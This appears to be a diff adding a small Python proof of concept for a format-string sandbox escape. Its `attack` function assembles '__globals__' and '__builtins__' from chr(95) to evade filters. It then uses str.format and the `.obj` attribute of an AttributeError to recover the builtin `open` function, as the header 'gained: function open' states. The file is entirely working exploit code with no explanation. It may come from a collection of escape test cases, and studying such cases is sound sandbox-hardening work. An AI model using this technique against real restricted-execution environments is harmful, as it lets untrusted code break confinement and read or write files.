@@ -1,0 +1,37 @@
+# gained: function open
+from typing import Any
+
+
+class Own:
+    obj: Any = None
+
+    def go(self) -> None:
+        return None
+
+
+def peek(value: Any) -> Any:
+    return value.obj
+
+
+def read(template: str, value: Any) -> Any:
+    try:
+        template.format(value)
+    except AttributeError as error:
+        return peek(error)
+    return None
+
+
+def attack(path: str) -> Any:
+    under = chr(95) * 2
+    return read(
+        "{0.go."
+        + under
+        + "globals"
+        + under
+        + "["
+        + under
+        + "builtins"
+        + under
+        + "][open].nothing}",
+        Own(),
+    )
